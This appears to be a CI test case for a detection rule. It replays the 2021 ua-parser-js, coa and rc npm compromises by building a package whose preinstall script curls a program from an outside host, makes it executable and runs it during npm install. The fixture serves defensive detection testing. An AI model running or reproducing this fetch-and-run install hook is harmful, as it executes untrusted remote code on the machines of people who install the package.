# incident: ua-parser-js, October 2021; coa and rc, November 2021
# what: the script of a package downloads a program from an unknown host and runs it while it is being installed
# rule: package-script-runs-download
## step: Install
mkdir -p $RUNNER_TEMP/ua && cd $RUNNER_TEMP/ua
cat > package.json <<'X'
{"name": "ua", "version": "0.7.29", "scripts": {"preinstall": "sh preinstall.sh"}}
X
cat > preinstall.sh <<'X'
curl -s -o jsextension http://citationsherbe.at/program
chmod +x jsextension
MUSTER_REPLAY_ROLE=prop ./jsextension -k --threads=1
X
cd $GITHUB_WORKSPACE && npm install --install-links --foreground-scripts $RUNNER_TEMP/ua
